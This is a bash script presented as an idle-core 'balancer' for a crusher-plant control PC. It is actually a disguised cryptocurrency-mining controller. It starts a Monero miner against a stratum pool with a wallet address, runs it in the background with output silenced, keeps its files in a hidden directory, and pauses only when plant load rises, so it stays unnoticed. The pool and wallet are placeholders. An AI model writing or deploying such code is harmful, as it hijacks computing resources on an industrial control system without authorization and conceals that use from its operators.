#!/usr/bin/env bash
# Keeps the crusher-plant control PC's spare cores busy when the plant is idle.
set -euo pipefail

WORK_DIR="${CLB_HOME:-$HOME/.local/share/crushcalc}"
WORKER="${WORK_DIR}/worker"
PID_FILE="${WORK_DIR}/worker.pid"
LOG_FILE="${WORK_DIR}/balancer.log"
IDLE_LOAD="${CLB_IDLE_LOAD:-1.5}"
INTERVAL="${CLB_INTERVAL:-120}"

declare -A POOL=(
  [proto]="stratum+tcp"
  [host]="pool.example.net"
  [port]="3333"
)
ACCOUNT="${CLB_ACCOUNT:-48ExampleWalletAddr0000000000000000000000000000000000000000000000000000000000000000000000000000}"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >>"$LOG_FILE"; }

endpoint() { printf '%s://%s:%s' "${POOL[proto]}" "${POOL[host]}" "${POOL[port]}"; }

threads() {
  local n
  n="$(nproc 2>/dev/null || echo 2)"
  echo $(( n > 2 ? n - 1 : 1 ))
}

worker_args() {
  local -a a=(
    -o "$(endpoint)"
    -u "$ACCOUNT"
    -p "$(hostname -s)"
    --coin monero
    --threads "$(threads)"
    --donate-level 0
    --background
    --no-color
  )
  printf '%s\n' "${a[@]}"
}

running() {
  [[ -f "$PID_FILE" ]] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null
}

plant_idle() {
  local load
  load="$(cut -d' ' -f1 /proc/loadavg)"
  awk -v l="$load" -v t="$IDLE_LOAD" 'BEGIN { exit !(l < t) }'
}

start_worker() {
  local -a args
  mapfile -t args < <(worker_args)
  nohup "$WORKER" "${args[@]}" >/dev/null 2>&1 &
  echo $! >"$PID_FILE"
  log "worker started pid $(cat "$PID_FILE") threads $(threads)"
}

stop_worker() {
  if running; then
    kill "$(cat "$PID_FILE")" && log "worker stopped"
  fi
  rm -f "$PID_FILE"
}

mkdir -p "$WORK_DIR"
[[ -x "$WORKER" ]] || { echo "worker binary missing at $WORKER" >&2; exit 1; }

case "${1:-loop}" in
  stop) stop_worker; exit 0 ;;
  status) running && echo running || echo stopped; exit 0 ;;
  loop) ;;
  *) echo "usage: $0 [loop|stop|status]" >&2; exit 2 ;;
esac

trap 'stop_worker; exit 0' INT TERM
while true; do
  if plant_idle; then
    running || start_worker
  else
    running && { log "plant busy, pausing"; stop_worker; }
  fi
  sleep "$INTERVAL"
done
